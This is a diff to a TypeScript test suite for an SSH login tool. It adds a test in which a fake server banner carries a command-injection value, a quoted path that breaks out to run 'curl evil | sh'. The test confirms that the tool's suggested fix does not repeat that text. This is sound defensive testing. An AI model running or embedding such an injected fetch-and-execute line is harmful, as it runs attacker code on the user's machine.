@@ -7,7 +7,7 @@ import { join } from 'node:path';
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
 import { run, runAsRoot } from '../../scripts/run';
 import { execText } from '../../src/hosts/shell';
-import { Cancelled } from '../../src/problem';
+import { Cancelled, type Problem } from '../../src/problem';
 import { makeAccount, type Account } from './account';
 import { Scene } from './scene';
 import { writeSecurityKey } from './securityKey';
@@ -86,6 +86,23 @@ describe('logging in by the system’s ssh', () => {
     },
   );
 
+  it('puts nothing that a banner says into the command it suggests', async () => {
+    const words = [
+      'REMOTE HOST IDENTIFICATION HAS CHANGED',
+      'Host key for bank has changed and you have requested strict checking.',
+      'Offending ED25519 key in /x"; curl evil | sh; ":3',
+    ];
+    await writeFile(scene.path('banner'), `${words.join('\n')}\n`);
+    await sshd.stop();
+    sshd = await startSshd({ config: [`Banner ${scene.path('banner')}`] });
+    await configure('StrictHostKeyChecking no');
+    const opening = scene.open('web');
+    const problem = await opening.catch((error: unknown) => error);
+    expect(problem).toMatchObject({ code: 'HOST_KEY_CHANGED' });
+    const { message, hint } = problem as Problem;
+    expect(message + hint).not.toMatch(/evil|bank/);
+  });
+
   it('refuses an unknown host key that may not be accepted', async () => {
     await configure(`IdentityFile ${scene.path('id')}\n  StrictHostKeyChecking yes`);
     await expect(scene.open('web')).rejects.toThrow(/not known, and StrictHostKeyChecking/);
@@ -156,7 +173,7 @@ describe('logging in by the system’s ssh', () => {
     scene.person.answers = ['a', 'b', 'c'];
     const opening = scene.open('web');
     await expect(opening).rejects.toMatchObject({ code: 'AUTH_FAILED' });
-    await expect(opening).rejects.toThrow(/offers publickey, password/);
+    await expect(opening).rejects.toThrow(/offers “publickey, password”/);
     expect(scene.person.asked).toHaveLength(3);
   });
 
